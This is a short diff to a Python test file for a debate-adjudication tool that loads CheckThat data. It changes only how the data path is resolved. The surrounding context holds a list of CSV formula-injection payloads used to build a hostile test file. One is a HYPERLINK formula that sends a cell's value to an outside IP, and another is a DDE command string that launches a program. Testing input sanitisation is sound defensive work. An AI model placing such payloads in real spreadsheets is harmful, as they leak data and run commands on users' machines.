@@ -11,13 +11,13 @@ import io
 from debate.adjudication.annotations import AnnotationStore
 from debate.adjudication.hardcases import from_upload
 from debate.datasets import load_checkthat
-from tests.conftest import SHARED_DATA
+from tests.conftest import data_path
 
 FORMULAS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+1"]
 
 
 def _hostile_checkthat(path) -> None:
-    items = load_checkthat(SHARED_DATA / "checkthat2025_4a" / "ct_train.tsv")[:len(FORMULAS)]
+    items = load_checkthat(data_path("checkthat2025_4a/ct_train.tsv"))[:len(FORMULAS)]
     with open(path, "w", encoding="utf-8", newline="") as fh:
         w = csv.writer(fh, delimiter="\t", lineterminator="\n")
         w.writerow(["index", "text", "labels"])
